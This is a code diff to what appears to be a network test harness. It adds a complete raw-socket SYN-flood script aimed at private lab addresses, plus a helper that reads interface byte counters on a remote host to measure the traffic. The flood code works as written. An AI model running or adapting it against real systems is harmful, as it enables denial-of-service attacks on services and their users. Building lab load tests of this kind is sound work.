@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import json
 import os
+import shlex
 import shutil
 import subprocess
 import sys
@@ -269,3 +270,38 @@ class Sleeper:
             before = time.monotonic()
             time.sleep(STEP_S)
             self._worst_s = max(self._worst_s, time.monotonic() - before - STEP_S)
+
+
+SYN_FLOOD = """
+import socket, struct, sys, time
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+a = socket.inet_aton('10.9.1.1') + socket.inet_aton('10.9.2.1')
+def checksum(d):
+    t = sum(struct.unpack('!%dH' % (len(d) // 2), d))
+    while t >> 16: t = (t & 0xffff) + (t >> 16)
+    return ~t & 0xffff
+for n in range(int(sys.argv[1])):
+    text = struct.pack('!HHIIBBHHH', 1024 + n, 80 + n // 60000, n, 0, 0x50, 2, 65535, 0, 0)
+    text = text[:16] + struct.pack('!H', checksum(a + struct.pack('!BBH', 0, 6, 20) + text)) + text[18:]
+    s.sendto(struct.pack('!BBHHHBBH', 0x45, 0, 40, 1, 0, 64, 6, 0) + a + text, ('10.9.2.1', 0))
+    if n % 100 == 0: time.sleep(0.005)
+"""
+"""So many SYNs, each of another connection, to the station."""
+
+READ = """
+import sys, time
+while True:  # a busy machine may stop between two lines: what was read is then of no known time
+    before = time.monotonic()
+    lines = open("/proc/net/dev").readlines()
+    after = time.monotonic()
+    if after - before < 0.002:
+        break
+(line,) = (line for line in lines if line.strip().startswith(sys.argv[1] + ":"))
+print(line.partition(":")[2].split()[8], before)
+"""
+
+
+def sent_on(host: Host, interface: str) -> tuple[int, float]:
+    """Bytes sent on an interface, and when that was read, s."""
+    count, at_s = host.run(f"{shlex.quote(sys.executable)} -S -c {shlex.quote(READ)} {interface}").split()
+    return int(count), float(at_s)
